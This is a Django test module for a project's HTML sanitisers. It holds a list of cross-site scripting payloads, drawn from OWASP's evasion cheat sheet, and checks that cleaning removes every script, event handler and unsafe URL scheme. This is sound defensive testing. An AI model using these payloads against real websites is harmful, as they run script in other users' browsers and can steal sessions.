"""Rich text cannot carry script.

Source: OWASP's *XSS Filter Evasion Cheat Sheet*, a selection kept by hand (from memory); what is left is read back with
Python's own ``html.parser``.
"""

from html.parser import HTMLParser

from django.test import SimpleTestCase
from hypothesis import given
from hypothesis import strategies as st

from coatpeg.files.sanitising import DIRECTIONS, PAGES, SCHEMES
from coatpeg.outlines.rich_text import clean
from coatpeg.portfolios import rich_pages

ATTACKS = """<SCRIPT SRC=https://xss.example/x.js></SCRIPT>
<img src="x" onerror="alert(1)">
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<a onmouseover="alert(document.cookie)">link</a>
<a href="javascript:alert(1)">link</a>
<a href="jav&#x09;ascript:alert(1)">link</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>
<a href=" &#14;  javascript:alert(1);">link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>
<a href="vbscript:msgbox(1)">link</a>
<a href="//xss.example/x">link</a>
<IMG SRC=# onmouseover="alert('xxs')">
<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>
<<SCRIPT>alert("XSS");//<</SCRIPT>
<IMG SRC="('XSS')"
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<STYLE>@import'https://xss.example/xss.css';</STYLE>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<TABLE BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<BASE HREF="javascript:alert('XSS');//">
<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>
<svg onload=alert(1)><script>alert(1)</script></svg>
<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>
<form><button formaction=javascript:alert(1)>X</button></form>
<details open ontoggle=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<p style="color:red" class="x" id="y" onclick="alert(1)">text</p>
<template><script>alert(1)</script></template>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>""".splitlines()


class Reader(HTMLParser):
    """What is in a text: elements and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


class Pages(SimpleTestCase):
    """What students write, by the same list: more elements are allowed there, and no more that runs."""

    def test_nothing_that_runs_is_left(self) -> None:
        for attack in ATTACKS:
            for text in (attack, f"<p>{attack}</p>", f"<table><tr><td>{attack}</td></tr></table>"):
                with self.subTest(text):
                    reader = Reader()
                    reader.feed(rich_pages.clean(text, {1}))
                    for tag, attributes in reader.found:
                        self.assertIn(tag, PAGES.tags, text)
                        for name, value in attributes:
                            self.assertIn(name, rich_pages.ATTRIBUTES.get(tag, set()), text)
                            if name == "href":
                                self.assertIn((value or "").split(":")[0], SCHEMES, text)
                            self.assertNotEqual(name, "src", "none of them names a picture of the portfolio")

    @given(st.text(max_size=80))
    def test_cleaning_twice_is_cleaning_once(self, text: str) -> None:
        once = rich_pages.clean(f"<p>{text}</p>", set())
        self.assertEqual(rich_pages.clean(once, set()), once)


class Cleaning(SimpleTestCase):
    def harmless(self, text: str) -> None:
        reader = Reader()
        reader.feed(clean(text))
        for tag, attributes in reader.found:
            self.assertIn(tag, DIRECTIONS.tags, text)
            for name, value in attributes:
                self.assertEqual((tag, name), ("a", "href"), text)
                self.assertIn((value or "").split(":")[0], SCHEMES, text)

    def test_nothing_that_runs_is_left(self) -> None:
        for attack in ATTACKS:
            with self.subTest(attack):
                self.harmless(attack)
                self.harmless(f"<p>{attack}</p>")
                self.harmless(f"<ul><li>{attack}")

    @given(st.text(alphabet="<>/\"'=&;: apscriptonehf\n", max_size=60))
    def test_whatever_is_typed(self, text: str) -> None:
        self.harmless(text)
        self.assertEqual(clean(clean(text)), clean(text), "cleaned twice is cleaned once")

    def test_what_is_allowed_stays(self) -> None:
        text = "<h3>Soil</h3><p>Dig <strong>deep</strong>, <em>slowly</em>:</p><ul><li>one</li><li>two</li></ul>"
        self.assertEqual(clean(text), text)
        link = '<p><a href="https://plants.example/a?b=1&amp;c=2">plants</a></p>'
        self.assertEqual(clean(link), link)

    def test_plain_text_becomes_paragraphs_and_signs_stay_signs(self) -> None:
        self.assertEqual(
            clean("Weigh it.\n\nWrite it down: 3 < 4 & more."),
            "<p>Weigh it.</p><p>Write it down: 3 &lt; 4 &amp; more.</p>",
        )
        for nothing in ("", "  \n ", "<p></p>", "<p><br></p>", "<script>alert(1)</script>"):
            self.assertEqual(clean(nothing), "", nothing)
